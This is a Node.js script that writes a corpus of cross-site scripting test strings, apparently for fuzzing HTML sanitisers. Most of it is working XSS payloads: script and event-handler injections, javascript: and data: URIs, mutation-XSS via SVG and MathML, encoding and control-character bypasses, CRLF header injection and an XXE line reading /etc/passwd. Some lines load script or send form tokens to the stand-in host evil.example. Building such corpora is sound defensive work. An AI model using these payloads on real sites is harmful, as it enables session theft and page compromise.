// Writes xss.txt: hostile strings, one JSON string to a line. Each would, if it ran, set a flag, open a
// dialog, write "xss" to the console, or leave an element behind.
// `node xss.mjs > xss.txt`

const RUN = "window.__xss=1";
const say = [RUN, "alert('xss')", "console.log('xss')", "top.__xss=1"];
const out = new Set();

// By hand: the shapes that have mattered.
const curated = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script>${RUN}//`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `</pre><script>${RUN}</script>`, `</bdi></td></tr></table><script>${RUN}</script>`, `<script type=module>${RUN}</script>`, `<script src="data:text/javascript,${RUN}"></script>`, `<script src=data:,alert('xss')>`, `<script>/*`, `*/${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}" id=xss-injected>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`, `<img src=x:x onerror=${RUN}//`, `<image src=x onerror=${RUN}>`, `<img/src/onerror=${RUN}>`, `<img srcset=x onerror=${RUN}>`, `<img src=\`x\` onerror=\`${RUN}\`>`, `<img src="x" onerror="&#119;indow.__xss=1">`, `<img src=javascript:${RUN}>`, `<img dynsrc="javascript:${RUN}">`, `<img lowsrc="javascript:${RUN}">`, `<input type=image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=${RUN}>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>xss</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x">`, `<svg><foreignObject><iframe srcdoc="<script>top.__xss=1</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, `<math href="javascript:${RUN}">xss</math>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">xss</maction></math>`,
  `<iframe src="javascript:top.__xss=1">`, `<iframe srcdoc="<img src=x onerror=top.__xss=1>">`, `<iframe onload=${RUN}>`, `<object data="javascript:${RUN}">`, `<object data="data:text/html,<script>top.__xss=1</script>">`, `<embed src="javascript:${RUN}">`, `<embed code="data:text/html,<script>alert('xss')</script>">`, `<frameset onload=${RUN}>`, `<portal src=javascript:${RUN}>`, `<applet code=xss>`, `<base href="//evil.example/">`, `<base href="javascript:/${RUN}//">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=data:text/html,<script>${RUN}</script>>`, `<link rel=prefetch href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv="refresh" content="0;url=//evil.example/">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<style>@import'//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example/leak)}</style>`, `<style onload=${RUN}></style>`, `<style>main{display:none}</style>`, `<div style="background:url(javascript:${RUN})">`, `<div style="width:expression(${RUN})">`, `<div style="position:fixed;inset:0;background:red" class=xss-injected>`, `<xss-injected>`, `<p id=xss-injected>`,
  `<form action="javascript:${RUN}"><button>xss`, `<form action=//evil.example/><input name=token>`, `<button formaction="javascript:${RUN}">xss`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<keygen autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<dialog open onclose=${RUN}>`, `<video src=x onerror=${RUN}>`, `<video><source onerror=${RUN}>`, `<audio src=x onerror=${RUN}>`, `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<marquee onstart=${RUN}>`, `<isindex type=image src=x onerror=${RUN}>`, `<a href="javascript:${RUN}">xss</a>`, `<a href="jav&#x09;ascript:${RUN}">xss</a>`, `<a href="jAvAsCrIpT:${RUN}">xss</a>`, `<a href="\u0001javascript:${RUN}">xss</a>`, `<a href="data:text/html,<script>top.__xss=1</script>">xss</a>`, `<a href="vbscript:msgbox('xss')">xss</a>`, `<a href=//evil.example target=_blank>xss</a>`, `<a id=session href=//evil.example>`, `<a name=getElementById>`, `<form id=body><input name=append>`, `<img name=cookie>`, `<img name=__proto__ src=x onerror=${RUN}>`,
  `javascript:${RUN}`, `javascript://%0a${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0000javascript:${RUN}`, `data:text/html,<script>top.__xss=1</script>`, `data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==`, `//evil.example/`, `/\\evil.example/`, `https://evil.example/`, `#/events/../../evil`, `../../v1/reload`, `?unmask=true`, `#/dead?by=<script>${RUN}</script>`,
  `';${RUN};'`, `";${RUN};"`, `\\";${RUN};//`, `\`;${RUN};\``, `\${${RUN}}`, `\${alert('xss')}`, `{{constructor.constructor('${RUN.replaceAll("'", "")}')()}}`, `{{7*7}}`, `{${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `[[${RUN}]]`, `{n}`, `{where}`, `{time}{id}{constructor}`, `__proto__`, `constructor`, `hasOwnProperty`, `toString`, `prototype`, `null`, `undefined`, `NaN`, `[object Object]`,
  `\u202egnp.exe`, `\u202e<script>${RUN}</script>`, `abc\u2066def\u2069ghi`, `\u200e\u200f\u061c`, `paid\u0008\u0008\u0008\u0008free`, `\u001b[31mred\u001b[0m`, `\u001b]0;xss\u0007`, `\u009b2J`, `\u0000<script>${RUN}</script>`, `a\u0000b`, `a\u200bb\u200cc\u200dd\ufeffe`, `\u2028${RUN}\u2029`, `\r\nSet-Cookie: xss=1`, `%0d%0aSet-Cookie:xss=1`, `\ud800`, `\udfff<script>`, `\u{e0041}\u{e0042}`, `\u00ad\u034f\u180e\u3164`, `Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c`, `${"\u0336".repeat(40)}x`, `\u05d0\u05d1\u05d2 123 abc`, `\ufff9annot\ufffaation\ufffb`, `${"W".repeat(3000)}`, `${"<b>".repeat(200)}`, `${"(".repeat(500)}`, `${"{\"a\":".repeat(300)}1${"}".repeat(300)}`, `${"[".repeat(400)}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;img src=x onerror=${RUN}&#x3e;`, `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}%253C/script%253E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`, `\u00bcscript\u00be${RUN}\u00bc/script\u00be`, `<\u0000script>${RUN}</script>`, `<\u00a0script>${RUN}</script>`, `<%00script>${RUN}`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`, `<xml><script>${RUN}</script></xml>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<div onpointerrawupdate=${RUN}>`, `<slot onslotchange=${RUN}>`, `<plaintext>`, `<xmp><script>${RUN}</script></xmp>`, `<listing><img src=x onerror=${RUN}></listing>`, `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`,
];
for (const one of curated) out.add(one);

// By machine: element × handler, broken out of where a value may stand.
const elements = ["img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "details open", "iframe", "object data=x", "marquee", "select autofocus", "style", "a href=# tabindex=1", "div contenteditable", "xss-injected"];
const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter", "onanimationstart", "onbeforeinput", "onclick"];
const breakouts = ["", "\">", "'>", "</td>", "</script>", "</bdi>", "-->", "&quot;>", "\\\">", "\u0000"];
let turn = 0;
for (const element of elements) {
  for (const handler of handlers) {
    const run = say[turn % say.length];
    const quote = ["", "\"", "'"][turn % 3];
    out.add(`${breakouts[turn % breakouts.length]}<${element} ${handler}=${quote}${run}${quote}>`);
    turn += 1;
  }
}
for (const breakout of breakouts.slice(1)) {
  for (const element of ["img src=x", "svg", "iframe", "details open", "xss-injected"]) {
    out.add(`${breakout}<${element} onerror=${RUN} onload=${RUN} ontoggle=${RUN}>`);
    out.add(`${breakout}<${element}/onerror=${say[turn % say.length]}/`);
    turn += 1;
  }
}
// Out of an attribute, without an element of its own.
for (const quote of ["\"", "'", "`", ""]) {
  for (const handler of ["onmouseover", "onfocus autofocus tabindex=1 x", "onpointerenter", "onclick", "style", "href", "formaction", "srcdoc"]) {
    out.add(`x${quote} ${handler}=${quote}${handler === "href" || handler === "formaction" ? "javascript:" : ""}${say[turn % say.length]}${quote} y=${quote}`);
    turn += 1;
  }
}
// Schemes with what parsers skip.
for (const gap of ["\t", "\n", "\r", "\u0000", "\u00a0", "\u200b", "&Tab;", "&NewLine;", "&#x0;", "%09", "/**/", "\\"]) {
  out.add(`java${gap}script:${RUN}`);
  out.add(`<a href="java${gap}script:${RUN}">xss</a>`);
  out.add(`<scr${gap}ipt>${RUN}</scr${gap}ipt>`);
  out.add(`<img${gap}src=x${gap}onerror=${RUN}>`);
}
// Every control, every bidirectional mark, around a tag.
for (const code of [...Array(32).keys(), 0x7f, ...Array.from({ length: 32 }, (_, n) => 0x80 + n), 0x61c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0x2028, 0x2029]) {
  out.add(`x${String.fromCodePoint(code)}<img src=x onerror=${RUN}>`);
}

process.stdout.write(`${[...out].map((one) => JSON.stringify(one).replace(/[\u007f-\u{10ffff}]/gu, (c) => [...c].map(() => c.length === 1 ? `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}` : [...Array(c.length).keys()].map((n) => `\\u${c.charCodeAt(n).toString(16)}`).join("")).join(""))).join("\n")}\n`);
